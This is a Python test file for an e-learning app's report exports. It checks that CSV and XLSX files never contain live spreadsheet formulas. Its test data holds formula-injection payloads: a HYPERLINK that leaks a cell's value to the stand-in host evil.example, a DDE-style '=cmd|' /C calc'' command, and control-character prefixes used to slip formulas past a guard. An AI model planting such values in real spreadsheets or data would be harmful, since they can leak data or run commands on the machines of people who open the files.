"""Issue 9, item 2: no text in an export can become a live spreadsheet formula.

A value starting with a control character (``"\\x01=HYPERLINK(...)"``) used to pass
the formula guard; the control character was then stripped and openpyxl wrote a
live formula, which LibreOffice evaluates. Now every text value in XLSX is an
explicit string cell, shown as stored (no apostrophe), and CSV applies its
guard after removing control characters. The files are written for real and
read back with openpyxl, the raw sheet XML, the csv module and LibreOffice.
"""

from __future__ import annotations

import csv
import io
import re
import zipfile
from pathlib import Path

import pytest
import sqlalchemy as sa
from openpyxl import load_workbook

from elearn.courses.store import save_course
from elearn.extensions import db
from elearn.models import Course, Unit, User
from elearn.people.services import PersonData, create_user, upsert_unit
from elearn.reporting.exports import stream_csv, write_xlsx

from ..certificates.conftest import complete_course
from ..conftest import PASSWORD, AuthActions
from ..content.helpers import make_course
from .test_exports import SOFFICE, soffice_to_csv

LINK = '=HYPERLINK("http://evil.example/?leak="&A2,"Klik")'
#: Hostile text -> what the XLSX cell must hold (control characters but tab,
#: line feed and carriage return removed; nothing added).
HOSTILE = {
    "=1+1": "=1+1",
    "+62 812 555": "+62 812 555",
    "-2+3": "-2+3",
    "@SUM(A1:A9)": "@SUM(A1:A9)",
    "\x01" + LINK: LINK,
    "\x00=1+1": "=1+1",
    "\x1f\x7f\x85=1+1": "=1+1",
    "\t=1+1": "\t=1+1",
    " =1+1": " =1+1",
    "\r=1+1": "\r=1+1",
    "\n=1+1": "\n=1+1",
    "=cmd|' /C calc'!A0": "=cmd|' /C calc'!A0",
    "#N/A": "#N/A",
    "=": "=",
    "'=already quoted": "'=already quoted",
}
#: What a CSV cell must hold: the guard, applied to the cleaned text.
CSV_EXPECTED = {
    "=1+1": "'=1+1", "+62 812 555": "'+62 812 555", "-2+3": "'-2+3",
    "@SUM(A1:A9)": "'@SUM(A1:A9)", "\x01" + LINK: "'" + LINK, "\x00=1+1": "'=1+1",
    "\x1f\x7f\x85=1+1": "'=1+1", "\t=1+1": "'\t=1+1", " =1+1": " =1+1", "\r=1+1": "'\r=1+1",
    "\n=1+1": "\n=1+1", "=cmd|' /C calc'!A0": "'=cmd|' /C calc'!A0", "#N/A": "#N/A",
    "=": "'=", "'=already quoted": "'=already quoted",
}
HEADER = ["NIP", "Nama", "Unit Kerja", "Jabatan", "Kursus"]


def hostile_rows():
    for n, value in enumerate(HOSTILE):
        yield [f"19920411201903{n:04d}", value, value, value, value]


def formula_free(data: bytes) -> None:
    """No cell of any sheet is a formula, judged on the raw XML of the file."""
    with zipfile.ZipFile(io.BytesIO(data)) as archive:
        sheets = [n for n in archive.namelist() if n.startswith("xl/worksheets/")]
        assert sheets
        for name in sheets:
            xml = archive.read(name).decode("utf-8")
            assert not re.search(r"<(\w+:)?f[ >/]", xml), name
            assert 't="str"' not in xml and 't="e"' not in xml  # formula results, errors


def cells(data: bytes):
    sheet = load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


def xlsx_bytes(header, rows) -> bytes:
    buffer = io.BytesIO()
    write_xlsx(header, rows, buffer)
    return buffer.getvalue()


def test_hostile_text_is_written_as_string_cells_shown_as_stored():
    data = xlsx_bytes(HEADER, hostile_rows())
    formula_free(data)
    every = cells(data)
    assert not any(c.data_type == "f" for c in every)
    rows = load_workbook(io.BytesIO(data)).active.iter_rows(min_row=2)
    for row, (_, expected) in zip(rows, HOSTILE.items(), strict=True):
        for cell in row[1:]:
            assert cell.data_type == "s", (expected, cell.data_type)
            assert cell.value == expected  # no leading apostrophe, nothing evaluated


def test_header_and_yes_no_cells_are_strings_too():
    data = xlsx_bytes(["=Nama", "Ya?"], iter([[True, False]]))
    formula_free(data)
    assert [(c.value, c.data_type) for c in cells(data)] == [
        ("=Nama", "s"), ("Ya?", "s"), ("Ya", "s"), ("Tidak", "s")]


def test_csv_guard_is_applied_after_control_characters_are_removed():
    data = b"".join(stream_csv(HEADER, hostile_rows()))
    rows = list(csv.reader(io.StringIO(data.decode("utf-8-sig"), newline="")))
    assert len(rows) == len(HOSTILE) + 1
    for row, (value, expected) in zip(rows[1:], CSV_EXPECTED.items(), strict=True):
        assert row[1:] == [expected] * 4, repr(value)


@pytest.mark.skipif(SOFFICE is None, reason=(
    "optional check: LibreOffice (soffice) is not on PATH; install LibreOffice to have the "
    "hostile XLSX opened and recalculated by a real spreadsheet"))
def test_libreoffice_shows_the_hostile_text_and_runs_nothing(tmp_path):
    source = tmp_path / "hostile.xlsx"
    source.write_bytes(xlsx_bytes(HEADER, hostile_rows()))
    shown = soffice_to_csv(source, tmp_path / "out", tmp_path / "lo-profile")
    assert shown[0] == HEADER
    by_nip = {r[0]: r for r in shown[1:]}
    for n, expected in enumerate(HOSTILE.values()):
        if "\r" in expected or "\n" in expected:
            continue  # line breaks inside a cell: compared by openpyxl above
        assert by_nip[f"19920411201903{n:04d}"][1:] == [expected] * 4, expected
    assert "Klik" not in {v for r in shown for v in r}  # the HYPERLINK never ran


# --- the real exports, web and command line --------------------------------------------------

NAME = "\x01" + LINK
POSITION = "\t=1+1"
UNIT_NAME = "\x02@SUM(1+1)*cmd|' /C calc'!A0"
TITLE = "\x1f=HYPERLINK(\"http://evil.example\",\"Kursus\")"
SHOWN = {NAME: LINK, POSITION: "\t=1+1", UNIT_NAME: "@SUM(1+1)*cmd|' /C calc'!A0",
         TITLE: '=HYPERLINK("http://evil.example","Kursus")'}
LEARNER = "199204112019031005"


@pytest.fixture
def hostile_data(app):
    """A learner who completed a course; the stored name, position, unit name and course
    title are hostile (written to the database as a staff file or course import could)."""
    with app.app_context():
        upsert_unit("DISKOMINFO", "Dinas Kominfo")
        user = create_user(PersonData(nip=LEARNER, full_name="Andi", unit_code="DISKOMINFO",
                                      position="Staf", grade="III/a"),
                           PASSWORD, must_change_password=False)
        course = save_course(make_course()).course
        db.session.commit()
        complete_course(user.id, course.id)
        db.session.execute(sa.update(User).where(User.id == user.id)
                           .values(full_name=NAME, position=POSITION))
        db.session.execute(sa.update(Unit).where(Unit.code == "DISKOMINFO")
                           .values(name=UNIT_NAME))
        db.session.execute(sa.update(Course).where(Course.id == course.id).values(title=TITLE))
        db.session.commit()


def check_export(data: bytes, *hostile: str) -> None:
    formula_free(data)
    every = cells(data)
    assert not any(c.data_type == "f" for c in every)
    texts = {c.value for c in every if c.data_type == "s"}
    for value in hostile:
        assert SHOWN[value] in texts, value
    assert not any(isinstance(c.value, str) and c.value.startswith("'") for c in every)


EXPORTS = [
    ("completions", (NAME, POSITION, UNIT_NAME, TITLE)),
    ("jp", (NAME, POSITION, UNIT_NAME)),
    ("siasn", (TITLE,)),
]


@pytest.mark.parametrize(("name", "hostile"), EXPORTS)
def test_web_xlsx_exports_hold_no_formula(app, hostile_data, make_user, name, hostile):
    admin = make_user("admin", nip="198003152005011002")
    client = app.test_client()
    AuthActions(client).login(admin.nip)
    response = client.get(f"/admin/reports/{name}.xlsx")
    assert response.status_code == 200
    data = response.data
    response.close()
    check_export(data, *hostile)

    response = client.get(f"/admin/reports/{name}.csv")
    assert response.status_code == 200
    rows = list(csv.reader(io.StringIO(response.get_data(as_text=True).lstrip("\ufeff"),
                                       newline="")))
    texts = {v for r in rows for v in r}
    for value in hostile:
        assert "'" + SHOWN[value] in texts, value


@pytest.mark.parametrize(("name", "hostile"), EXPORTS)
def test_cli_xlsx_exports_hold_no_formula(app, runner, hostile_data, tmp_path: Path, name,
                                          hostile):
    out = tmp_path / f"{name}.xlsx"
    result = runner.invoke(args=["reports", name, "--format", "xlsx", "--output", str(out)])
    assert result.exit_code == 0, result.output
    check_export(out.read_bytes(), *hostile)
